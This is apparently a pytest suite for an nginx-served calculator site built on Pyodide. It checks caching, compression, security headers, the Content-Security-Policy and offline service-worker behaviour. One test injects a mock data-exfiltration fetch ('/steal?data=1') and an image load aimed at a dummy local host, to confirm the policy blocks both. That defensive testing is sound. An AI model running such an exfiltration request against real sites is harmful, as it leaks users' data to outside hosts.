"""The site as nginx serves it with the repo's config (deploy/nginx.conf): types, precompressed
encodings, cache and security headers; the Content-Security-Policy in the browser (the site
itself breaks none of it, an injected cross-origin fetch or image is blocked); and the service
worker: a calculator computes exactly with the server gone, and a new site version replaces the
cached runtime.
"""

import base64
import glob
import gzip
import hashlib
import json
import os
import re
import shutil
import time
import urllib.request

import brotli
import pytest

from calculators import api
from scripts import offline
from scripts.nginx_conf import free_port, start
from scripts.ready_runtime import runtime_path
from tests.caselib import TODAY, case_files, load_case, scenario_json

RUNTIME = runtime_path()
CASE = load_case(next(p for p in case_files() if p.endswith("assistance-07-dibao-inpatient.yaml")))


def get(site, path: str, encoding: str = "br, gzip"):
    request = urllib.request.Request(site["base"] + path.lstrip("/"), headers={"Accept-Encoding": encoding})
    with urllib.request.urlopen(request) as response:
        return response.headers, response.read()


def app_folder(site) -> str:
    """The site's own runtime folder (/pyodide/<version>/<hash>/), from a page's meta tag."""
    _, body = get(site, "/", encoding="identity")
    return re.search(rb'<meta name="yibao-runtime" content="([^"]+)"', body).group(1).decode()


def local(site, path: str) -> bytes:
    with open(os.path.join(site["dir"], path.strip("/")), "rb") as handle:
        return handle.read()


def test_the_runtime_is_sent_precompressed_with_its_type_and_cached_for_good(site):
    path = RUNTIME + "pyodide.asm.wasm"
    headers, body = get(site, path)
    assert headers["Content-Type"] == "application/wasm"
    assert headers["Content-Encoding"] == "br" and "Accept-Encoding" in headers["Vary"]
    assert headers["Cache-Control"] == "public, max-age=31536000, immutable"
    assert brotli.decompress(body) == local(site, path)
    assert len(body) < len(local(site, path)) * 0.35  # 9.6 MB of wasm is about 2.7 MB in brotli
    headers, body = get(site, path, encoding="gzip")
    assert headers["Content-Encoding"] == "gzip" and gzip.decompress(body) == local(site, path)
    headers, body = get(site, path, encoding="identity")
    assert headers.get("Content-Encoding") is None and body == local(site, path)
    headers, _ = get(site, RUNTIME + "pyodide.asm.mjs")
    assert headers["Content-Type"] == "text/javascript; charset=utf-8"


def test_the_site_files_of_the_runtime_are_named_by_content_and_cached_for_good(site):
    folder = app_folder(site)
    assert re.fullmatch(re.escape(RUNTIME) + r"[0-9a-f]{12}/", folder)
    files = json.loads(get(site, folder + "runtime.json", encoding="identity")[1])["files"]
    wheel = next(name for name in files if name.endswith(".whl"))
    for name in (wheel, "pyodide-lock.json", "python_stdlib.zip"):
        headers, _ = get(site, folder + name)
        assert headers["Cache-Control"] == "public, max-age=31536000, immutable", name
    assert get(site, folder + wheel)[0]["Content-Type"] == "application/zip"
    lock = json.loads(get(site, folder + "pyodide-lock.json", encoding="identity")[1])
    assert list(lock["packages"]) == ["calculators"]
    assert lock["packages"]["calculators"]["sha256"] == hashlib.sha256(local(site, folder + wheel)).hexdigest()


def test_pages_are_revalidated_and_hashed_theme_files_are_not(site):
    headers, _ = get(site, "calculators/inpatient/")
    assert headers["Content-Type"] == "text/html; charset=utf-8" and headers["Cache-Control"] == "no-cache"
    assert headers["ETag"]
    bundle = os.path.relpath(
        glob.glob(os.path.join(site["dir"], "assets", "javascripts", "bundle.*.min.js"))[0], site["dir"]
    )
    assert get(site, bundle)[0]["Cache-Control"] == "public, max-age=31536000, immutable"
    for path in ("assets/calc/client.js", "sw.js", "manifest.webmanifest"):
        assert get(site, path)[0]["Cache-Control"] == "no-cache", path
    assert get(site, "manifest.webmanifest")[0]["Content-Type"] == "application/manifest+json; charset=utf-8"


def test_a_calculator_page_starts_its_runtime_early_without_preload_links(site):
    # Preload links made every visit compile Pyodide's module on the page's main thread (a
    # repeat visit 0.6-1.5 s slower, performance page); early.js warms the big files instead.
    _, page = get(site, "calculators/inpatient/", encoding="identity")
    head = page.split(b"</head>")[0].decode()
    assert 'rel="preload"' not in head and 'rel="modulepreload"' not in head
    assert re.search(r'<script type="module" async src="[./]*assets/calc/early\.js"></script>', head)
    warm = re.search(r'<meta name="yibao-warm" content="([^"]+)">', head).group(1).split()
    # The names it warms are the runtime's real files, the ones the worker will ask for.
    assert [os.path.basename(url) for url in warm] == ["pyodide.asm.wasm", "python_stdlib.zip"]
    for url in warm:
        assert get(site, url)[0]["Cache-Control"] == "public, max-age=31536000, immutable", url
    assert local(site, warm[1]) == local(site, app_folder(site) + "python_stdlib.zip")
    # A page without a calculator starts nothing.
    _, faq = get(site, "hangzhou/benefits/", encoding="identity")
    assert b"early.js" not in faq and b"yibao-warm" not in faq


def test_security_headers_and_the_same_policy_in_the_page(site):
    headers, body = get(site, "calculators/inpatient/", encoding="identity")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"
    meta = re.search(rb'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', body).group(1).decode()
    assert headers["Content-Security-Policy"] == meta + "; frame-ancestors 'none'"
    directives = dict(part.strip().split(" ", 1) for part in meta.split(";"))
    assert directives["default-src"] == "'self'" and directives["connect-src"] == "'self'"
    script = directives["script-src"].split()
    assert script[:2] == ["'self'", "'wasm-unsafe-eval'"] and "'unsafe-inline'" not in script
    # Every inline script of every built page is allowed by its hash, and nothing else is.
    inline = set()
    for path in glob.glob(os.path.join(site["dir"], "**", "*.html"), recursive=True):
        with open(path, encoding="utf-8") as handle:
            for text in re.findall(
                r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>(.*?)</script>", handle.read(), re.DOTALL
            ):
                inline.add("'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'")
    assert inline and set(script[2:]) == inline


VIOLATIONS = "window.__violations = []; addEventListener('securitypolicyviolation', (e) => window.__violations.push([e.violatedDirective, e.blockedURI]));"


@pytest.fixture
def strict_page(browser):
    """A page that keeps the site's policy (the shared context bypasses it, see conftest.py)."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


def test_the_site_breaks_none_of_its_policy(site, strict_page):
    page = strict_page
    page.add_init_script(VIOLATIONS)
    page.goto(site["base"] + "calculators/inpatient/")
    page.evaluate("window.yibao.ready()")
    page.locator(".yb-form button[type=submit]").click()
    page.wait_for_selector(".yb-slip .yb-totals")
    page.goto(site["base"] + "en/hangzhou/benefits/")
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.__violations") == []


def test_the_policy_blocks_an_injected_cross_origin_fetch_and_image(site, strict_page):
    page = strict_page
    page.add_init_script(VIOLATIONS)
    page.goto(site["base"] + "hangzhou/benefits/")
    outcome = page.evaluate("""async () => {
        const image = new Promise((resolve) => {
            const img = new Image();
            img.onload = () => resolve("loaded");
            img.onerror = () => resolve("blocked");
            img.src = "http://127.0.0.2:9/pixel.png";
        });
        let fetched;
        try { await fetch("http://127.0.0.2:9/steal?data=1"); fetched = "sent"; } catch (e) { fetched = "blocked"; }
        return [fetched, await image];
    }""")
    assert outcome == ["blocked", "blocked"]
    page.wait_for_function("window.__violations.length >= 2")
    directives = {d for d, _ in page.evaluate("window.__violations")}
    assert directives == {"connect-src", "img-src"}


@pytest.fixture
def own_server(site, tmp_path):
    """A copy of the built site behind its own nginx, served from a symlink that a test can point
    at another version, and stopped to take the network away."""
    first = tmp_path / "v1"
    shutil.copytree(site["dir"], first, symlinks=True)
    root = tmp_path / "root"
    root.symlink_to(first)
    port = free_port()
    server = {
        "base": "http://127.0.0.1:" + str(port) + "/",
        "root": root,
        "tmp": tmp_path,
        "nginx": start(str(root), port, str(tmp_path / "run")),
    }
    yield server
    if server["nginx"].poll() is None:
        server["nginx"].terminate()
        server["nginx"].wait(timeout=10)


def kept_urls(page) -> list:
    return page.evaluate("""async () => {
        const out = [];
        for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) out.push(name + " " + request.url);
        return out;
    }""")


def wait_until_kept(page, suffix: str, timeout: float = 60) -> None:
    deadline = time.time() + timeout
    while not [u for u in kept_urls(page) if u.endswith(suffix)]:
        assert time.time() < deadline, "the service worker never kept " + suffix
        time.sleep(0.25)


def settle_case(page) -> dict:
    return page.evaluate(
        "([c, s, today]) => window.yibao.run(c, s, {today})", [CASE["calculator"], scenario_json(CASE), TODAY]
    )


def test_after_one_visit_a_calculator_computes_exactly_with_the_server_gone(own_server, browser):
    context = browser.new_context()
    page = context.new_page()
    page.goto(own_server["base"] + "calculators/inpatient/")
    page.evaluate("window.yibao.ready()")
    expected = json.loads(api.run_json(CASE["calculator"], scenario_json(CASE), TODAY))
    assert settle_case(page) == expected
    wait_until_kept(page, ".whl")
    # Everything the page itself fetched is kept too (the service worker did not control it yet).
    used = page.evaluate(
        "performance.getEntriesByType('resource').map((e) => e.name).filter((u) => u.startsWith(location.origin))"
    )
    deadline = time.time() + 60
    while set(used) - {u.split(" ", 1)[1] for u in kept_urls(page)}:
        assert time.time() < deadline, set(used) - {u.split(" ", 1)[1] for u in kept_urls(page)}
        time.sleep(0.25)
    own_server["nginx"].terminate()
    own_server["nginx"].wait(timeout=10)
    offline_page = context.new_page()
    offline_page.goto(own_server["base"] + "calculators/inpatient/")
    offline_page.evaluate("window.yibao.ready()")
    assert settle_case(offline_page) == expected
    # The page itself works too: the reader's own input, the result on the slip.
    offline_page.locator("input[name='claims.0.bill']").fill("50000")
    offline_page.locator(".yb-form button[type=submit]").click()
    offline_page.wait_for_selector(".yb-slip .yb-totals")
    assert "40,944.00" in offline_page.locator(".yb-slip .yb-totals").inner_text()
    context.close()


def new_version(own_server) -> str:
    """The site as a new build would be: the calculators wheel changed, so the site's runtime
    folder has a new name (pages point to it), and the service worker a new build stamp."""
    first = own_server["root"].resolve()
    second = own_server["tmp"] / "v2"
    shutil.copytree(first, second)
    old = next(p for p in glob.glob(str(second) + RUNTIME + "*/") if re.search(r"/[0-9a-f]{12}/$", p))
    name = os.path.basename(old.rstrip("/"))
    fresh = "f" * 12
    os.rename(old, old.replace(name, fresh))
    for path in glob.glob(str(second / "**" / "*.html"), recursive=True):
        with open(path, encoding="utf-8") as handle:
            text = handle.read()
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(text.replace(name, fresh))
        for stale in glob.glob(path + ".*"):
            os.remove(stale)  # the precompressed copies of the old page
    with open(os.path.join(second, "sw.js"), encoding="utf-8") as handle:
        text = handle.read()
    stamp = re.search(r'const BUILD = "([0-9a-f]+)"', text).group(1)
    with open(os.path.join(second, "sw.js"), "w", encoding="utf-8") as handle:
        handle.write(text.replace(stamp, offline.build_hash(str(second))))
    for stale in glob.glob(os.path.join(second, "sw.js.*")):
        os.remove(stale)
    own_server["root"].unlink()
    own_server["root"].symlink_to(second)
    return fresh


def test_a_new_site_version_replaces_the_cached_runtime(own_server, browser):
    context = browser.new_context()
    page = context.new_page()
    page.goto(own_server["base"] + "calculators/outpatient/")
    page.evaluate("window.yibao.ready()")
    wait_until_kept(page, ".whl")
    # The service worker's caches are the build's (the memory snapshot, when it has been saved
    # by now, has a cache of its own, keyed by the content-named runtime folder).
    first = {u.split(" ")[0] for u in kept_urls(page) if u.startswith("yibao-")}
    assert len(first) == 1
    fresh = new_version(own_server)
    # The next visits fetch the new service worker, which takes over and drops the old cache.
    page.goto(own_server["base"] + "calculators/outpatient/")
    page.wait_for_function("navigator.serviceWorker.controller !== null")
    deadline = time.time() + 60
    while (
        not [u for u in kept_urls(page) if "/" + fresh + "/" in u and u.endswith(".whl")]
        or {u.split(" ")[0] for u in kept_urls(page)} & first
    ):
        assert time.time() < deadline, kept_urls(page)[:5]
        page.reload()
        page.evaluate("window.yibao.ready()")
        time.sleep(0.5)
    assert settle_case(page) == json.loads(api.run_json(CASE["calculator"], scenario_json(CASE), TODAY))
    context.close()
